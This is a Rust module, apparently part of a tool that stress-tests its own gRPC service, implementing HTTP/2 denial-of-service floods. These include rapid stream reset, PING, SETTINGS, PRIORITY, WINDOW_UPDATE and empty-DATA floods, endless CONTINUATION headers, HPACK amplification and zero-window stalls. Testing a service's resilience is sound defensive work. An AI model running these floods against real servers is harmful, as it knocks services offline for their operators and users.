//! HTTP/2 frames that cost the service more than the client.

use crate::attack::Attacker;
use crate::wire::grpc::{CHECK, Encoding, UNARY, message};
use crate::wire::http2::{
    CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, PRIORITY, RESET, SETTINGS, WINDOW_UPDATE,
    call_headers, frame, literal, preface, streams,
};
use crate::wire::protobuf::{field, request};

/// Connections of a flood.
const CONNECTIONS: usize = 16;

/// Frames that are written together.
const FRAMES: usize = 1000;

/// Default window of a stream.
const WINDOW: u32 = 65_535;

/// Sends a preface and then one frame repeatedly.
async fn flood(attacker: Attacker, frame: Vec<u8>, reads: bool) {
    attacker.flood(CONNECTIONS, &preface(WINDOW), frame.repeat(FRAMES), reads).await;
}

pub(super) async fn rapid_reset(attacker: Attacker) {
    let headers = call_headers(UNARY);
    // Stream identifiers cannot be reused, so each connection sends a fixed number of calls and is then opened again.
    let calls = streams(attacker.sized(100_000)).flat_map(|stream| {
        let opened = frame(HEADERS, END_HEADERS, stream, &headers);
        [opened, frame(RESET, 0, stream, &8_u32.to_be_bytes())].concat()
    });
    let bytes: Vec<u8> = preface(WINDOW).into_iter().chain(calls).collect();
    attacker.send(CONNECTIONS, bytes).await;
}

pub(super) async fn pings(attacker: Attacker) {
    flood(attacker, frame(PING, 0, 0, &[0; 8]), false).await;
}

pub(super) async fn settings(attacker: Attacker) {
    flood(attacker, frame(SETTINGS, 0, 0, &[]), false).await;
}

pub(super) async fn priorities(attacker: Attacker) {
    flood(attacker, frame(PRIORITY, 0, 1001, &[0, 0, 0, 0, 16]), true).await;
}

pub(super) async fn empty_data(attacker: Attacker) {
    let start = [preface(WINDOW), frame(HEADERS, END_HEADERS, 1, &call_headers(UNARY))].concat();
    attacker.flood(CONNECTIONS, &start, frame(DATA, 0, 1, &[]).repeat(FRAMES), true).await;
}

pub(super) async fn window_updates(attacker: Attacker) {
    flood(attacker, frame(WINDOW_UPDATE, 0, 0, &1_u32.to_be_bytes()), true).await;
}

pub(super) async fn endless_headers(attacker: Attacker) {
    let start = [preface(WINDOW), frame(HEADERS, 0, 1, &call_headers(CHECK))].concat();
    let more = frame(CONTINUATION, 0, 1, &literal(&[0x00, 1, b'x'], "and so on"));
    attacker.flood(CONNECTIONS, &start, more.repeat(FRAMES), true).await;
}

pub(super) async fn repeated_headers(attacker: Attacker) {
    // Literal with incremental indexing, and then references to it: index 62 is the newest entry of the table.
    let stored = literal(&[0x40, 1, b'x'], &"v".repeat(4000));
    let block = [call_headers(CHECK), stored, vec![0x80 | 62; 4000]].concat();
    let calls = streams(attacker.sized(1000))
        .flat_map(|stream| frame(HEADERS, END_HEADERS | END_STREAM, stream, &block));
    let bytes: Vec<u8> = preface(WINDOW).into_iter().chain(calls).collect();
    attacker.send(CONNECTIONS, bytes).await;
}

pub(super) async fn closed_windows(attacker: Attacker) {
    let documents = field(1, field(4, "word1 word2"));
    let search = message(Encoding::Identity, &request("/search", &documents, &[]));
    let calls = streams(attacker.sized(1000)).flat_map(|stream| {
        let opened = frame(HEADERS, END_HEADERS, stream, &call_headers(UNARY));
        [opened, frame(DATA, END_STREAM, stream, &search)].concat()
    });
    let bytes: Vec<u8> = preface(0).into_iter().chain(calls).collect();
    attacker.send(1, bytes).await;
}
